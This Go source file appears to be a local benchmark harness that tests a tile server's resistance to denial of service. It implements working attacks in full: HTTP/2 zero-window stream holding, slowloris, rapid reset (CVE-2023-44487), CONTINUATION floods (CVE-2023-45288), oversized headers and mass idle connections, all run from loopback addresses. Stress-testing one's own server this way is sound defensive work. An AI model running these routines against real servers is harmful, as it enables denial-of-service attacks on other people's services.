package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is one connection's part of an attack. It returns when the server has ended the connection, and
// is begun again a second later.
type attacker func(ctx context.Context, conn net.Conn, v victim) error

// victim is what an attack is made on.
type victim struct {
	address, token string
	mounted        func() // called when a connection has done what it does at first
}

// attack is a bounded number of connections that all do the same.
type attack struct {
	name        string
	what        string
	connections int
	addresses   int  // from so many client addresses of 127.0.0.0/8; 0: each connection has its own
	small       bool // the kernel reads little on the client's behalf
	run         attacker
}

var attacks = []attack{
	{name: "h2-window0", what: "500 connections of one client, as many granted tiles each as streams allow, windows of 0", connections: 500, addresses: 1, run: streamsUnread("/tiles/basemap/7/66/44.png", true, 250, 0)},
	{name: "h2-window0-anonymous", what: "the same without a token: 401", connections: 500, addresses: 1, run: streamsUnread("/tiles/basemap/7/66/44.png", false, 250, 0)},
	{name: "h2-window0-spread", what: "the same of 500 clients", connections: 500, run: streamsUnread("/tiles/basemap/7/66/44.png", true, 250, 0)},
	{name: "stopped-readers", what: "1,000 clients with 30 tiles each that stop reading", connections: 1000, small: true, run: streamsUnread("/tiles/basemap/7/66/44.png", true, 30, 1<<20)},
	{name: "slowloris", what: "2,000 connections that send a byte of their header in a second", connections: 2000, addresses: 20, run: slowloris},
	{name: "rapid-reset", what: "50 connections that reset 40 requests a second each (CVE-2023-44487)", connections: 50, addresses: 5, run: rapidReset},
	{name: "continuation", what: "50 connections, each with a header of 16 KiB frames that never ends (CVE-2023-45288)", connections: 50, addresses: 5, run: continuation},
	{name: "large-headers", what: "50 connections that send header fields of 1 MiB over HTTP/1.1", connections: 50, addresses: 5, run: largeHeaders},
	{name: "idle", what: "6,000 connections of one client that ask once and stay", connections: 6000, addresses: 1, run: idle},
}

// runAttack is a process: attack-process NAME ADDRESS TOKEN. It goes on until it is stopped, and prints a
// line when each connection has begun.
func runAttack(ctx context.Context, args []string) error {
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == args[0] })
	if i < 0 {
		return fmt.Errorf("no attack is called %q", args[0])
	}
	a := attacks[i]
	var running, mounting sync.WaitGroup
	mounting.Add(a.connections)
	running.Go(func() {
		mounting.Wait()
		fmt.Println("mounted")
	})
	for n := range a.connections {
		v := victim{args[1], args[2], sync.OnceFunc(mounting.Done)}
		running.Go(func() {
			if !wait(ctx, time.Duration(n)*time.Second/time.Duration(a.connections)) {
				return // spread over a second, as any listener's backlog wants
			}
			for ctx.Err() == nil {
				_ = a.once(ctx, n, v) // the server may end it in any way
				v.mounted()
				if !wait(ctx, time.Second) {
					return
				}
			}
		})
	}
	running.Wait()
	return nil
}

func (a attack) once(ctx context.Context, n int, v victim) error {
	from := n
	if a.addresses > 0 {
		from = n % a.addresses
	}
	dialer := net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 66, byte(from/250), byte(from%250+1))}}
	if a.small {
		dialer.Control = smallReceiveBuffer
	}
	conn, err := dialer.DialContext(ctx, "tcp", v.address)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	return errors.Join(a.run(ctx, conn, v), conn.Close())
}

// wait reports whether the time has passed before ctx ended.
func wait(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}

// requestBlock is the header of a GET, encoded so that it can be sent any number of times.
func requestBlock(path, token string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	fields := []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "bench"}, {Name: ":path", Value: path}}
	if token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
	}
	for _, f := range append(fields, more...) {
		_ = e.WriteField(f) // into memory
	}
	return block.Bytes()
}

// openHTTP2 begins an HTTP/2 connection whose streams may be sent so much each. Flush the writer.
func openHTTP2(conn net.Conn, window uint32) (*http2.Framer, *bufio.Writer, error) {
	out := bufio.NewWriterSize(conn, 64<<10)
	f := http2.NewFramer(out, conn)
	_, err := io.WriteString(out, http2.ClientPreface)
	return f, out, errors.Join(err,
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}), f.WriteWindowUpdate(0, 1<<30), out.Flush())
}

// streamsUnread keeps streams open that take nothing beyond a window: as many as the server allows, and
// no more than most. What ends is asked for again a second later.
func streamsUnread(path string, granted bool, most int, window uint32) attacker {
	return func(ctx context.Context, conn net.Conn, v victim) error {
		f, out, err := openHTTP2(conn, window)
		if err != nil {
			return err
		}
		token := v.token
		if !granted {
			token = ""
		}
		block := requestBlock(path, token)
		var open, allowed atomic.Int64
		allowed.Store(int64(most))
		settled := make(chan struct{})
		ended := make(chan error, 1)
		stops := window > 0 // reads its settings and nothing more
		go func() {
			for first := true; ; {
				frame, err := f.ReadFrame()
				if err != nil {
					ended <- err
					return
				}
				switch frame := frame.(type) {
				case *http2.SettingsFrame:
					if n, ok := frame.Value(http2.SettingMaxConcurrentStreams); ok {
						allowed.Store(min(allowed.Load(), int64(n)))
					}
				case *http2.RSTStreamFrame:
					open.Add(-1)
				case *http2.GoAwayFrame:
					ended <- io.EOF
					return
				case *http2.DataFrame:
					if frame.StreamEnded() {
						open.Add(-1)
					}
				case *http2.HeadersFrame:
					if frame.StreamEnded() {
						open.Add(-1)
					}
				}
				if first {
					first = false
					close(settled)
					if stops {
						return
					}
				}
			}
		}()
		select {
		case <-settled:
		case err := <-ended:
			return err
		case <-ctx.Done():
			return ctx.Err()
		}
		if err := f.WriteSettingsAck(); err != nil {
			return err
		}
		for id := uint32(1); ; {
			for ; open.Load() < allowed.Load(); id += 2 {
				open.Add(1)
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
			}
			if err := out.Flush(); err != nil {
				return err
			}
			v.mounted()
			if stops { // a ping tells that the server has ended the connection
				_ = f.WritePing(false, [8]byte{})
			}
			timer := time.NewTimer(time.Second)
			select {
			case <-timer.C:
			case err := <-ended:
				timer.Stop()
				return err
			case <-ctx.Done():
				timer.Stop()
				return ctx.Err()
			}
		}
	}
}

func slowloris(ctx context.Context, conn net.Conn, v victim) error {
	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: bench\r\nX-A: ")
	v.mounted()
	for err == nil && wait(ctx, time.Second) {
		_, err = io.WriteString(conn, "b")
	}
	return err
}

func rapidReset(ctx context.Context, conn net.Conn, v victim) error {
	f, out, err := openHTTP2(conn, 1<<20)
	if err != nil {
		return err
	}
	go io.Copy(io.Discard, conn) //nolint:errcheck // ends with the connection
	block := requestBlock("/tiles/basemap/7/66/44.png", v.token)
	for id := uint32(1); wait(ctx, 500*time.Millisecond); {
		for range 20 {
			err = errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}), f.WriteRSTStream(id, http2.ErrCodeCancel))
			id += 2
		}
		if err = errors.Join(err, out.Flush()); err != nil {
			return err
		}
		v.mounted()
	}
	return nil
}

func continuation(ctx context.Context, conn net.Conn, v victim) error {
	f, out, err := openHTTP2(conn, 1<<20)
	if err != nil {
		return err
	}
	go io.Copy(io.Discard, conn) //nolint:errcheck // ends with the connection
	part := requestBlock("/", "", hpack.HeaderField{Name: "x-a", Value: strings.Repeat("b", 15<<10)})
	err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: part})
	for err == nil && wait(ctx, 10*time.Millisecond) {
		err = errors.Join(f.WriteContinuation(1, false, part), out.Flush())
		v.mounted()
	}
	return err
}

func largeHeaders(_ context.Context, conn net.Conn, _ victim) error {
	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: bench\r\n")
	field := "X-A: " + strings.Repeat("b", 8<<10) + "\r\n"
	for n := 0; err == nil && n < 1<<20; n += len(field) {
		_, err = io.WriteString(conn, field)
	}
	return err
}

func idle(_ context.Context, conn net.Conn, v victim) error {
	if _, err := io.WriteString(conn, "GET /health HTTP/1.1\r\nHost: bench\r\n\r\n"); err != nil {
		return err
	}
	v.mounted()
	_, err := io.Copy(io.Discard, conn) // until it is closed
	return err
}
